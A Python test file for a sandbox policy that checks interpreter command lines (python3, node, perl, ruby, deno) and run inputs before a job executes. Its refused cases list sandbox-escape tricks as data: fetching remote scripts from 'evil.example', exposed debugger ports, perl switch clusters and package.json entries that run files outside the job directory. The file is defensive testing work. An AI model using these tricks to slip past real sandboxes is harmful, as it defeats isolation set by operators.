"""An interpreter runs the job's script from the job directory, and a run starts only
with a sane timeout and file names: pure checks, written-out cases and Hypothesis."""

from __future__ import annotations

import math

import pytest
from hypothesis import assume, given
from hypothesis import strategies as st

import guild
from guild.sandbox import Resolved, SandboxPolicy, check, check_run

POLICY = SandboxPolicy(isolate="never")
NODE_INLINE = SandboxPolicy(isolate="never", inline_code={"node"})
TABLE = {
    "python3": Resolved(name="python3", path="/usr/bin/python3", real="/usr/bin/python3.11"),
    "node": Resolved(name="node", path="/usr/bin/node", real="/usr/bin/node"),
}
STDLIB_MODULE = "/usr/lib/python3.11/http/server.py"
NPM = "/usr/lib/node_modules/npm/bin/npm-cli.js"


def _rule(argv: list[str], policy: SandboxPolicy = POLICY) -> str | None:
    try:
        check(argv, TABLE, policy)
    except guild.CommandRefused as refused:
        return refused.rule
    return None


def _run_rule(
    timeout: object, files: dict[str, bytes], policy: SandboxPolicy = POLICY
) -> str | None:
    try:
        check_run(["python3", "x.py"], timeout, files, policy)
    except guild.CommandRefused as refused:
        return refused.rule
    return None


class TestScriptWrittenOut:
    @pytest.mark.parametrize(
        ("argv", "rule"),
        [
            (["python3", "-"], "script-stdin"),
            (["python3", "-u", "-"], "script-stdin"),
            (["python3", "/dev/stdin"], "script-stdin"),
            (["python3", "/dev/fd/0"], "script-stdin"),
            (["python3", "/proc/self/fd/0"], "script-stdin"),
            (["python3", "/proc/1/fd/3"], "script-stdin"),
            (["node", "-"], "script-stdin"),
            (["node", "/dev/stdin"], "script-stdin"),
            (["python3", "--", "-c", "print(1)"], "double-dash"),
            (["python3", "-u", "--", "x.py"], "double-dash"),
            (["node", "--no-warnings", "--", "x.js"], "double-dash"),
            (["python3", "../x.py"], "script-outside"),
            (["python3", "a/../../x.py"], "script-outside"),
            (["python3", STDLIB_MODULE], "script-outside"),
            (["python3", "/tmp/x.py"], "script-outside"),
            (["python3", ""], "script-outside"),
            (["python3", "-W", "ignore", "../x.py"], "script-outside"),
            # The value of a known option is skipped: the script is the module.
            (["python3", "--check-hash-based-pycs", "always", STDLIB_MODULE], "script-outside"),
            # An unknown option may take the next argument: both readings are checked.
            (["python3", "--made-up", "x.py", STDLIB_MODULE], "script-outside"),
            (["node", "--made-up", "x.js", NPM], "script-outside"),
            (["node", "--title", "x.js", NPM], "script-outside"),
            (["node", "-C", "x.js", NPM], "script-outside"),
            (["node", "https://evil.example/x.js"], "script-outside"),
            (["node", "data:text/javascript,1"], "script-outside"),
            (["node", NPM, "install"], "script-outside"),
            (["node", "--inspect", "x.js"], "debugger"),
            (["node", "--inspect=0.0.0.0:9229", "x.js"], "debugger"),
            (["node", "--inspect-port=0", "x.js"], "debugger"),
            (["node", "--inspect-wait", "x.js"], "debugger"),
            (["node", "--inspect_wait", "x.js"], "debugger"),
            (["node", "--inspect-publish-uid=http", "x.js"], "debugger"),
            (["node", "--debug", "x.js"], "debugger"),
            (["node", "--debug-brk", "x.js"], "debugger"),
            (["node", "--debug-port=1", "x.js"], "debugger"),
            (["node", "--inspect-brk", "x.js"], "inline-code"),
            (["node", "--inspect_brk=0", "x.js"], "inline-code"),
            (["node", "--env-file=evil.env", "x.js"], "env-injection"),
            (["node", "--env-file", "evil.env", "x.js"], "env-injection"),
        ],
    )
    def test_refused(self, argv: list[str], rule: str) -> None:
        assert _rule(argv) == rule

    @pytest.mark.parametrize(
        "argv",
        [
            ["python3", "x.py"],
            ["python3", "dir/x.py", "/etc/passwd", "--", "-", "../y"],
            ["python3", "-u", "-X", "dev", "-W", "ignore", "x.py"],
            ["python3", "-Wignore", "-B", "x.py"],
            ["python3", "--check-hash-based-pycs", "always", "x.py"],
            ["python3", "x.py", "-c", "/dev/stdin"],
            ["python3", "."],  # the job directory's own __main__.py
            ["python3", "dev/stdin"],  # a file of the job's called that
            ["python3", "a..b.py"],
            ["python3", "-V"],
            ["python3"],  # no script: reads stdin, which is /dev/null
            ["node", "--no-warnings", "--max-old-space-size=64", "x.js"],
            ["node", "--title", "name", "x.js"],
            ["node", "x.js", "--inspect", "--", "-"],
            ["node", "--enable-source-maps", "lib/main.mjs"],
        ],
    )
    def test_allowed(self, argv: list[str]) -> None:
        assert _rule(argv) is None
        assert check(argv, TABLE, POLICY)[1:] == tuple(argv[1:])

    def test_inline_code_allowed_is_not_a_debugger_allowed(self) -> None:
        assert _rule(["node", "-e", "1"], NODE_INLINE) is None
        assert _rule(["node", "--inspect", "-e", "1"], NODE_INLINE) == "debugger"

    def test_a_refusal_names_the_script(self) -> None:
        with pytest.raises(guild.CommandRefused) as refused:
            check(["python3", STDLIB_MODULE], TABLE, POLICY)
        assert (
            refused.value.detail == f"the script {STDLIB_MODULE!r} is not inside the job directory"
        )
        assert isinstance(refused.value, PermissionError)


# Options each interpreter reads, with their values, as a user would write them.
PYTHON_OPTIONS = st.sampled_from(
    [["-u"], ["-B"], ["-E"], ["-s"], ["-S"], ["-I"], ["-O"], ["-OO"], ["-q"], ["-b"],
     ["-X", "dev"], ["-Xutf8"], ["-W", "ignore"], ["-Werror"], ["-uB"],
     ["--check-hash-based-pycs", "never"]]
)  # fmt: skip
NODE_OPTIONS = st.sampled_from(
    [["--no-warnings"], ["--enable-source-maps"], ["--max-old-space-size=64"],
     ["--title", "t"], ["--title=t"], ["--conditions", "dev"], ["-C", "dev"],
     ["--unhandled-rejections=strict"], ["--trace-warnings"], ["--no-deprecation"]]
)  # fmt: skip
component = st.text(alphabet="abcxyz019._-", min_size=1, max_size=8)
anything = st.text(alphabet=st.characters(blacklist_characters="\0"), max_size=12)


def _inside(script: str) -> bool:
    """The rule, restated: a relative name with no '..' part, not stdin, not a URL."""
    parts = script.split("/")
    return (
        script not in ("", "-")
        and not script.startswith("/")
        and ".." not in parts
        and ":" not in parts[0]
    )


def _exec_can_pass(word: str) -> bool:
    """Whether execve can be given ``word`` (a lone surrogate has no bytes)."""
    try:
        word.encode("utf-8", "surrogateescape")
    except UnicodeEncodeError:
        return False
    return True


class TestScriptProperties:
    @given(
        st.sampled_from(["python3", "node"]),
        st.data(),
        st.lists(component, min_size=1, max_size=4),
        st.lists(anything, max_size=3),
    )
    def test_a_script_in_the_job_directory_runs_after_any_options(
        self, name: str, data: st.DataObject, parts: list[str], rest: list[str]
    ) -> None:
        script = "/".join(parts)
        assume(_inside(script) and not script.startswith("-"))
        assume(all(_exec_can_pass(word) for word in rest))
        options = data.draw(st.lists(PYTHON_OPTIONS if name == "python3" else NODE_OPTIONS))
        argv = [name, *(word for option in options for word in option), script, *rest]
        assert _rule(argv) is None

    @given(
        st.sampled_from(["python3", "node"]),
        st.data(),
        st.lists(st.sampled_from(["a", "..", "b.py", ".", "x:y", "lib"]), min_size=1, max_size=4),
        st.booleans(),
    )
    def test_the_script_runs_exactly_when_it_is_inside(
        self, name: str, data: st.DataObject, parts: list[str], absolute: bool
    ) -> None:
        script = ("/" if absolute else "") + "/".join(parts)
        options = data.draw(st.lists(PYTHON_OPTIONS if name == "python3" else NODE_OPTIONS))
        argv = [name, *(word for option in options for word in option), script, "arg"]
        rule = _rule(argv)
        if _inside(script):
            assert rule is None
        else:
            assert rule in ("script-outside", "script-stdin")

    @given(
        st.sampled_from(["--inspect", "--debug"]),
        st.text(alphabet="abcdefghijklmnopqrstuvwxyz-_", max_size=10),
        st.sampled_from(["", "=0", "=0.0.0.0:9229"]),
        st.sampled_from([POLICY, NODE_INLINE]),
    )
    def test_every_debugger_option_is_refused(
        self, prefix: str, suffix: str, value: str, policy: SandboxPolicy
    ) -> None:
        option = prefix + suffix + value
        rule = _rule(["node", option, "x.js"], policy)
        if (prefix + suffix).replace("_", "-") == "--inspect-brk" and policy is POLICY:
            assert rule == "inline-code"
        else:
            assert rule == "debugger"

    @given(st.lists(NODE_OPTIONS, max_size=3))
    def test_a_double_dash_before_the_script_is_refused(self, before: list[list[str]]) -> None:
        options = [word for option in before for word in option]
        assert _rule(["node", *options, "--", "x.js"]) == "double-dash"


class TestRunWrittenOut:
    @pytest.mark.parametrize(
        "timeout",
        [-1, 0, 0.0, -0.0, math.nan, math.inf, -math.inf, 1e12, 10**400, 3600.5, True, "5", None],
    )
    def test_bad_timeouts(self, timeout: object) -> None:
        assert _run_rule(timeout, {}) == "bad-timeout"

    @pytest.mark.parametrize(("timeout", "seconds"), [(0.001, 0.001), (5, 5.0), (3600, 3600.0)])
    def test_good_timeouts(self, timeout: float, seconds: float) -> None:
        assert check_run(["python3", "x.py"], timeout, {}, POLICY) == seconds

    def test_max_timeout_is_the_policys(self) -> None:
        assert _run_rule(10.0, {}, SandboxPolicy(isolate="never", max_timeout=5)) == "bad-timeout"
        with pytest.raises(ValueError, match="max_timeout"):
            SandboxPolicy(max_timeout=math.inf)
        with pytest.raises(ValueError, match="max_timeout"):
            SandboxPolicy(max_timeout=0)

    @pytest.mark.parametrize(
        "name",
        [
            ".", "..", "./x", "a/./b", "a/../b", "../x", "/etc/x", "", "a//b", "a/", "x\0y",
            "a" * 256, "é" * 128, "/".join(["a" * 200] * 21), "\udc80",
        ],
    )  # fmt: skip
    def test_bad_file_names(self, name: str) -> None:
        assert _run_rule(5, {name: b""}) == "bad-file"

    @pytest.mark.parametrize(
        "name", ["x.py", "a/b/c.txt", "a" * 255, "é" * 127, "/".join(["a" * 200] * 20), "-", "..."]
    )
    def test_good_file_names(self, name: str) -> None:
        assert _run_rule(5, {name: b""}) is None

    def test_a_name_that_is_both_file_and_directory(self) -> None:
        assert _run_rule(5, {"a": b"", "a/b": b""}) == "bad-file"
        assert _run_rule(5, {"a/b/c": b"", "a/b": b""}) == "bad-file"
        assert _run_rule(5, {"a/b": b"", "a/c": b""}) is None

    def test_files_must_be_a_mapping(self) -> None:
        assert _run_rule(5, [("x.py", b"")]) == "bad-file"  # type: ignore[arg-type]

    def test_content_must_be_bytes(self) -> None:
        assert _run_rule(5, {"x.py": "print(1)"}) == "bad-file"  # type: ignore[dict-item]
        assert _run_rule(5, {3: b""}) == "bad-file"  # type: ignore[dict-item]

    def test_files_must_fit_the_disk_budget(self) -> None:
        small = SandboxPolicy(isolate="never", disk_bytes=8192, disk_inodes=3)
        # tmpfs gives each non-empty file whole 4 KiB pages: three 1-byte files are 12 KiB.
        assert _run_rule(5, {"a": b"1", "b": b"2", "c": b"3"}, small) == "disk-budget"
        assert _run_rule(5, {"a": b"1", "b": b"2"}, small) is None
        assert _run_rule(5, {"a": b"", "b": b"", "c": b""}, small) is None
        # Directories take inodes too: d, d/a, d/b, d/c.
        assert _run_rule(5, {"d/a": b"", "d/b": b"", "d/c": b""}, small) == "disk-budget"


class TestRunProperties:
    @given(st.one_of(st.floats(), st.integers(-(10**6), 10**6)))
    def test_a_timeout_is_taken_exactly_when_finite_positive_and_under_the_max(
        self, timeout: float
    ) -> None:
        ok = math.isfinite(timeout) and 0 < timeout <= 3600
        assert (_run_rule(timeout, {}) is None) == ok

    @given(st.text(max_size=300))
    def test_a_name_is_taken_exactly_when_it_stays_a_plain_relative_path(self, name: str) -> None:
        try:
            encoded = name.encode()
        except UnicodeEncodeError:
            encoded = None
        parts = name.split("/")
        ok = (
            encoded is not None
            and name != ""
            and "\0" not in name
            and not name.startswith("/")
            and all(part not in ("", ".", "..") for part in parts)
            and len(encoded) <= 4096
            and all(len(part.encode()) <= 255 for part in parts)
        )
        assert (_run_rule(5, {name: b"x"}) is None) == ok


# Each expected rule below was seen with the real interpreter (perl 5.36, node 20)
# in a scratch directory holding x.pl / x.js, with /tmp/out/evil.pl outside it.
PERL_TABLE = {"perl": Resolved(name="perl", path="/usr/bin/perl", real="/usr/bin/perl")}


def _perl_rule(argv: list[str]) -> str | None:
    try:
        check(argv, PERL_TABLE, POLICY)
    except guild.CommandRefused as refused:
        return refused.rule
    return None


class TestPerlSwitchesAsPerlReadsThem:
    @pytest.mark.parametrize(
        ("argv", "rule"),
        [
            # -C takes the rest of its cluster: perl ran /tmp/out/evil.pl, the I was
            # a unicode letter, not -I taking the next argument.
            (["perl", "-CI", "/tmp/out/evil.pl", "x.pl"], "script-outside"),
            (["perl", "-CSDI", "/tmp/out/evil.pl", "x.pl"], "script-outside"),
            # -D skips the word characters after it: the same.
            (["perl", "-DI", "/tmp/out/evil.pl", "x.pl"], "script-outside"),
            # A space ends an attached value and perl reads switches again: each of
            # these printed what the next argument said.
            (["perl", "-i -e", "print 1"], "inline-code"),
            (["perl", "-i.bak -e", "print 1"], "inline-code"),
            (["perl", "-F: -e", "print 1"], "inline-code"),
            (["perl", "-CS -e", "print 1"], "inline-code"),
            (["perl", "-Dx -e", "print 1"], "inline-code"),
            (["perl", "-l -e", "print 1"], "inline-code"),
            # -S looks the script up on PATH: perl ran /tmp/out/evil.pl.
            (["perl", "-S", "evil.pl"], "script-outside"),
            (["perl", "-wS", "evil.pl"], "script-outside"),
            (["perl", "-S", "-w", "evil.pl"], "script-outside"),
            # Only -0 reads x and hex digits: -lx is -l then -x, which ran the
            # script embedded in x.txt.
            (["perl", "-lx", "x.txt"], "inline-code"),
            (["perl", "-lxe", "x.txt"], "inline-code"),
            (["perl", "-l7e", "print 1"], "inline-code"),
            (["perl", "-0777e", "print 1"], "inline-code"),
            # -0x takes hex digits only up to the end of the cluster; anything else
            # is -0 then -x with a directory: perl ran /tmp/out/evil.pl after a chdir
            # (into I, had the job made it), or scanned it for its #!perl line.
            (["perl", "-0xI", "/tmp/out/evil.pl", "x.pl"], "inline-code"),
            (["perl", "-0xle", "print 1"], "inline-code"),
            (["perl", "-0x", "x.pl"], "inline-code"),
        ],
    )
    def test_refused(self, argv: list[str], rule: str) -> None:
        assert _perl_rule(argv) == rule

    @pytest.mark.parametrize(
        "argv",
        [
            ["perl", "-CSD", "x.pl"],  # ran x.pl
            ["perl", "-C", "x.pl"],
            ["perl", "-0xe", "print 1"],  # e is a hex digit: perl opened "print 1"
            ["perl", "-I -e", "x.pl"],  # -I takes the rest, space and all
            ["perl", "-I", "/usr/share/perl5", "x.pl"],  # ran x.pl
            ["perl", "-0x1F", "x.pl"],
        ],
    )
    def test_allowed(self, argv: list[str]) -> None:
        assert _perl_rule(argv) is None


class TestNodeOptionsThatRunAFile:
    @pytest.mark.parametrize(
        "argv",
        [
            # node 20 imported the reporter module and ran its top level.
            ["node", "--test", "--test-reporter", "/tmp/out/rep.mjs", "x.js"],
            ["node", "--test-reporter=/tmp/out/rep.mjs", "--test", "x.js"],
            ["node", "--test-reporter=../rep.mjs", "--test", "x.js"],
            ["node", "--test_reporter=/tmp/out/rep.mjs", "--test", "x.js"],
            # node 20 ran the snapshot's main function instead of x.js.
            ["node", "--snapshot-blob", "/tmp/out/snap.blob", "x.js"],
            ["node", "--snapshot-blob=/tmp/out/snap.blob", "x.js"],
        ],
    )
    def test_a_file_outside_is_refused(self, argv: list[str]) -> None:
        assert _rule(argv) == "script-outside"

    @pytest.mark.parametrize(
        "argv",
        [
            ["node", "--test", "--test-reporter=./r.mjs", "x.test.js"],
            ["node", "--test", "--test-reporter", "spec", "x.test.js"],
            ["node", "--snapshot-blob", "snap.blob", "x.js"],
            ["node", "--test-reporter"],  # no value: node stops with an error
        ],
    )
    def test_a_file_inside_is_allowed(self, argv: list[str]) -> None:
        assert _rule(argv) is None

    def test_the_script_after_the_value_is_still_checked(self) -> None:
        assert _rule(["node", "--test-reporter", "spec", NPM]) == "script-outside"
        assert _rule(["node", "--test-reporter=spec", NPM]) == "script-outside"
        assert _rule(["node", "--snapshot-blob", "s.blob", "-"]) == "script-stdin"


class TestRunBudgetsWrittenOut:
    def test_pages_are_whole_4_kib_pages_per_file(self) -> None:
        two_pages = SandboxPolicy(isolate="never", disk_bytes=8192)
        assert _run_rule(5, {"a": b"x" * 4096, "b": b"y" * 4096}, two_pages) is None
        assert _run_rule(5, {"a": b"x" * 4097}, two_pages) is None
        assert _run_rule(5, {"a": b"x" * 4097, "b": b"y"}, two_pages) == "disk-budget"
        assert _run_rule(5, {"a": b"x" * 8193}, two_pages) == "disk-budget"
        assert _run_rule(5, {f"f{i}": b"" for i in range(50)}, two_pages) is None

    def test_inodes_count_each_directory_once(self) -> None:
        three = SandboxPolicy(isolate="never", disk_inodes=3)
        assert _run_rule(5, {"d/e/f": b""}, three) is None  # d, d/e, d/e/f
        assert _run_rule(5, {"d/a": b"", "d/b": b""}, three) is None  # d, d/a, d/b
        assert _run_rule(5, {"d/e/f": b"", "d/g": b""}, three) == "disk-budget"
        two = SandboxPolicy(isolate="never", disk_inodes=2)
        assert _run_rule(5, {"d/e/f": b""}, two) == "disk-budget"

    def test_a_name_of_exactly_4096_bytes_is_taken(self) -> None:
        name = "/".join(["a" * 255] * 15 + ["b" * 200, "c" * 55])
        assert len(name.encode()) == 4096
        assert _run_rule(5, {name: b""}) is None
        assert _run_rule(5, {name + "c": b""}) == "bad-file"


DENO_TABLE = {"deno": Resolved(name="deno", path="/usr/bin/deno", real="/usr/bin/deno")}


class TestDenoSubcommands:
    """deno reads one subcommand word, then the script (`deno run x.ts`); a first
    word that is not a subcommand is the script itself (`deno x.ts`)."""

    @pytest.mark.parametrize(
        ("argv", "rule"),
        [
            (["deno", "/tmp/x.ts"], "script-outside"),
            (["deno", "../x.ts"], "script-outside"),
            (["deno", "run", "/tmp/x.ts"], "script-outside"),
            (["deno", "run", "-A", "https://evil.example/x.ts"], "script-outside"),
            (["deno", "eval", "1"], "inline-code"),
            *(
                (["deno", sub, "/tmp/x.ts"], "script-outside")
                for sub in ("run", "test", "bench", "check", "compile", "serve", "lint")
            ),
        ],
    )
    def test_refused(self, argv: list[str], rule: str) -> None:
        with pytest.raises(guild.CommandRefused) as refused:
            check(argv, DENO_TABLE, POLICY)
        assert refused.value.rule == rule

    @pytest.mark.parametrize(
        "argv", [["deno", "x.ts"], ["deno", "run", "eval"], ["deno", "test", "t.ts", "/tmp/x"]]
    )
    def test_allowed(self, argv: list[str]) -> None:
        assert check(argv, DENO_TABLE, POLICY)[1:] == tuple(argv[1:])


def test_a_policy_is_built_from_keywords_only() -> None:
    with pytest.raises(TypeError):
        SandboxPolicy(("python3",))  # type: ignore[call-arg]


class TestPythonOptionValues:
    """What python 3.11 reads as an option's value is never its script."""

    @pytest.mark.parametrize(
        "argv",
        [
            # The value is read (and here rejected by python), never taken for stdin.
            ["python3", "--check-hash-based-pycs", "-", "x.py"],
            ["python3", "--help-env", "x.py", STDLIB_MODULE],  # a flag: prints help
            ["python3", "--version", "x.py", STDLIB_MODULE],
        ],
    )
    def test_allowed(self, argv: list[str]) -> None:
        assert _rule(argv) is None

    def test_an_unknown_option_is_read_both_ways_wherever_it_is(self) -> None:
        assert _rule(["python3", "--made-up", "x.py", STDLIB_MODULE, "y"]) == "script-outside"
        assert _rule(["python3", "-u", "--made-up", "x.py", STDLIB_MODULE]) == "script-outside"
        assert _rule(["python3", "--made-up", STDLIB_MODULE]) == "script-outside"


def test_the_documented_budget_defaults() -> None:
    # docs/sandbox.md: memory 1 GiB, run_cpu_seconds 120, tmpfs 64 MiB and 4096
    # inodes, job directory 128 MiB and 16384 inodes; max_timeout one hour.
    policy = SandboxPolicy()
    assert (policy.memory, policy.run_cpu_seconds) == (1024**3, 120)
    assert (policy.tmpfs_size, policy.tmpfs_inodes) == (64 * 1024**2, 4096)
    assert (policy.disk_bytes, policy.disk_inodes) == (128 * 1024**2, 16384)
    assert policy.max_timeout == 3600.0


class TestNodeTestRunsEveryWord:
    def test_every_word_after_test_is_a_script(self) -> None:
        # node 20 ran both files, the second one from outside the job directory.
        assert _rule(["node", "--test", "x.test.js", "/tmp/out/evil.test.js"]) == "script-outside"
        assert _rule(["node", "--test", "a.test.js", "../b.test.js"]) == "script-outside"
        assert _rule(["node", "--test", "x.test.js", NPM]) == "script-outside"

    def test_files_inside_run(self) -> None:
        assert _rule(["node", "--test"]) is None  # node finds the tests in the job directory
        assert _rule(["node", "--test", "a.test.js", "lib/b.test.js"]) is None
        assert _rule(["node", "x.js", "--test", "/etc/passwd"]) is None  # x.js's own argument


class TestNodeInspectWord:
    @pytest.mark.parametrize(
        "argv",
        [
            # node 20 printed "Debugger listening on ws://127.0.0.1:9229/…" for each.
            ["node", "inspect", "x.js"],
            ["node", "--no-warnings", "inspect", "x.js"],
            ["node", "inspect", "127.0.0.1:9229"],
        ],
    )
    @pytest.mark.parametrize("policy", [POLICY, NODE_INLINE])
    def test_refused(self, argv: list[str], policy: SandboxPolicy) -> None:
        assert _rule(argv, policy) == "debugger"

    def test_a_script_argument_called_inspect_is_allowed(self) -> None:
        assert _rule(["node", "x.js", "inspect"]) is None
        assert _rule(["python3", "inspect"]) is None  # python has no such word


def test_the_name_alone_makes_an_interpreter() -> None:
    # A python3 found as a shim (pyenv's real file is a launcher, not "python…")
    # is still python: its inline-code flags are refused.
    shim = {"python3": Resolved(name="python3", path="/usr/bin/python3", real="/opt/pyenv/shim")}
    with pytest.raises(guild.CommandRefused) as refused:
        check(["python3", "-c", "1"], shim, POLICY)
    assert refused.value.rule == "inline-code"


def test_perl_l_reads_octal_digits_only() -> None:
    # perl -l0x1F x.pl: -l takes the 0, then -x scanned x.pl for a #!perl line.
    assert _perl_rule(["perl", "-l0x1F", "x.pl"]) == "inline-code"


def test_many_unknown_options_are_read_once_each() -> None:
    # Each unknown option is read two ways; places already read are not read
    # again, so sixty of them are checked at once, script and all.
    assert _rule(["python3", *["--made-up"] * 60, "x.py"]) is None
    assert _rule(["python3", *["--made-up"] * 60, STDLIB_MODULE]) == "script-outside"


@pytest.mark.parametrize(
    "argv",
    [
        ["perl", "-X", "x.pl"],  # -X turns warnings off; perl ran x.pl
        ["python3", "--help-all", "x.py", STDLIB_MODULE],  # a flag: python prints help
        # An option after --test is read as an option, not a test file.
        ["node", "--test", "--test-name-pattern=a/../b", "x.test.js"],
    ],
)
def test_options_that_are_not_scripts(argv: list[str]) -> None:
    table = {**TABLE, **PERL_TABLE}
    assert check(argv, table, POLICY)[1:] == tuple(argv[1:])


def test_a_versioned_nodejs_is_node() -> None:
    table = {"nodejs18": Resolved(name="nodejs18", path="/usr/bin/nodejs18", real="/opt/n")}
    with pytest.raises(guild.CommandRefused) as refused:
        check(["nodejs18", "-e", "1"], table, POLICY)
    assert refused.value.rule == "inline-code"


def _node_run_rule(
    argv: list[str], files: dict[str, bytes], policy: SandboxPolicy = POLICY
) -> str | None:
    try:
        check_run(argv, 10, files, policy, TABLE)
    except guild.CommandRefused as refused:
        return refused.rule
    return None


class TestNodePackageMain:
    """`node DIR` runs DIR/package.json's "main": node 20 ran a file outside the
    directory for an absolute main, for "../x.js" from a subdirectory, through a
    byte order mark and for a main without ".js", and ignored "exports". The
    run's files decide it."""

    @pytest.mark.parametrize(
        ("argv", "files"),
        [
            (
                ["node", "."],
                {"package.json": b'{"main": "/usr/lib/node_modules/npm/bin/npm-cli.js"}'},
            ),
            (["node", "./"], {"package.json": b'{"main": "/tmp/x.js"}'}),
            (["node", "lib/"], {"lib/package.json": b'{"main": "../../x.js"}'}),
            (["node", "lib"], {"lib/package.json": b'{"main": "/tmp/x"}'}),
            (["node", "."], {"package.json": b'{"main": "../x.js"}'}),
            (["node", "."], {"package.json": b'\xef\xbb\xbf{"main": "../x.js"}'}),  # BOM
            (["node", "."], {"package.json": b'{"main": "a/../../x.js", "exports": "./i.js"}'}),
            (["node", "--no-warnings", "."], {"package.json": b'{"main": "/tmp/x.js"}'}),
            (["/usr/bin/node", "."], {"package.json": b'{"main": "/tmp/x.js"}'}),
            (["node", "."], {"package.json": b"{not json"}),  # where it points is unknown
            (["node", "."], {"package.json": b"\xff\xfe"}),
        ],
    )
    def test_main_outside_is_refused(self, argv: list[str], files: dict[str, bytes]) -> None:
        assert _node_run_rule(argv, files) == "script-outside"
        assert _node_run_rule(argv, files, NODE_INLINE) == "script-outside"

    @pytest.mark.parametrize(
        ("argv", "files"),
        [
            (["node", "."], {"package.json": b'{"main": "lib/x.js"}', "lib/x.js": b""}),
            (["node", "lib"], {"lib/package.json": b'{"main": "../x.js"}', "x.js": b""}),
            (["node", "."], {"package.json": b'{"name": "p"}', "index.js": b""}),
            (["node", "."], {"package.json": b'{"main": 5}'}),  # not a string: index.js
            (["node", "."], {"package.json": b"[]"}),
            (["node", "."], {"index.js": b""}),  # no package.json
            (["node", "x.js", "."], {"package.json": b'{"main": "/x"}'}),  # x.js's argument
            (["python3", "."], {"package.json": b'{"main": "/x"}', "__main__.py": b""}),
        ],
    )
    def test_main_inside_is_allowed(self, argv: list[str], files: dict[str, bytes]) -> None:
        assert _node_run_rule(argv, files) is None

    def test_the_name_alone_says_node_without_a_table(self) -> None:
        files = {"package.json": b'{"main": "/tmp/x.js"}'}
        with pytest.raises(guild.CommandRefused) as refused:
            check_run(["node", "."], 10, files, POLICY)
        assert refused.value.rule == "script-outside"


PYTHON_TABLE = {
    "python3": Resolved(name="python3", path="/usr/bin/python3", real="/usr/bin/python3.11")
}
RUBY_TABLE = {"ruby": Resolved(name="ruby", path="/usr/bin/ruby", real="/usr/bin/ruby3.1")}


def _table_rule(argv: list[str], table: dict[str, Resolved]) -> str | None:
    try:
        check(argv, table, POLICY)
    except guild.CommandRefused as refused:
        return refused.rule
    return None


class TestOptionsThatRunOtherCode:
    @pytest.mark.parametrize(
        ("argv", "rule"),
        [
            # python 3.11 imported the category's module before the script: `this`
            # printed the Zen of Python, `venv.__main__` ran `python -m venv`.
            (["python3", "-W", "ignore::this.X", "x.py"], "inline-code"),
            (["python3", "-Wignore::venv.__main__.X", "x.py"], "inline-code"),
            (["python3", "-uW", "default::json.X", "x.py"], "inline-code"),
            (["python3", "-W", "ignore: msg : os . X : mod : 3", "x.py"], "inline-code"),
            # A category without a module is a built-in name: nothing is imported.
            (["python3", "-W", "ignore::DeprecationWarning", "x.py"], None),
            (["python3", "-Werror::UserWarning:pkg.mod", "x.py"], None),  # a module regex
            (["python3", "-W", "ignore", "x.py"], None),
            (["python3", "x.py", "-W", "ignore::this.X"], None),  # the script's own argument
            # ruby -C DIR and -xDIR change directory before opening the script.
            (["ruby", "-C", "/usr/lib/ruby", "x.rb"], "script-outside"),
            (["ruby", "-C/tmp", "x.rb"], "script-outside"),
            (["ruby", "-wC", "/", "x.rb"], "script-outside"),
            (["ruby", "-x/tmp", "x.rb"], "script-outside"),
            (["ruby", "-C", "../..", "x.rb"], "script-outside"),
            (["ruby", "-x", "x.rb"], None),  # no directory: only skips to the #! line
            (["ruby", "-xe", "x.rb"], None),  # e is -x's directory, in the job's
            (["ruby", "-C", "lib", "x.rb"], None),  # lib/x.rb, still the job's
            (["ruby", "-C", "/tmp", "-e", "1"], "inline-code"),
            (["ruby", "x.rb", "-C", "/"], None),
        ],
    )
    def test_written_out(self, argv: list[str], rule: str | None) -> None:
        table = PYTHON_TABLE if argv[0] == "python3" else RUBY_TABLE
        assert _table_rule(argv, table) == rule

    @pytest.mark.parametrize(
        "argv",
        [
            # Each --test makes every later word a test file; the words are read
            # once, however many --test there are, and none is skipped.
            ["node", "--test", "a.js", "--test", "/tmp/out/x.js"],
            ["node", "--test", "--test", "/tmp/out/x.js"],
            ["node", "--title", "--test", "--test", "../x.js"],
        ],
    )
    def test_every_word_after_node_test_is_checked(self, argv: list[str]) -> None:
        from guild.sandbox._policy import check_interpreter

        with pytest.raises(guild.CommandRefused) as refused:
            check_interpreter(argv, "node")
        assert refused.value.rule == "script-outside"

    def test_inline_code_allows_the_warning_import(self) -> None:
        policy = SandboxPolicy(isolate="never", inline_code=frozenset({"python3"}))
        argv = ["python3", "-W", "ignore::this.X", "x.py"]
        assert check(argv, PYTHON_TABLE, policy)[0] == "/usr/bin/python3"
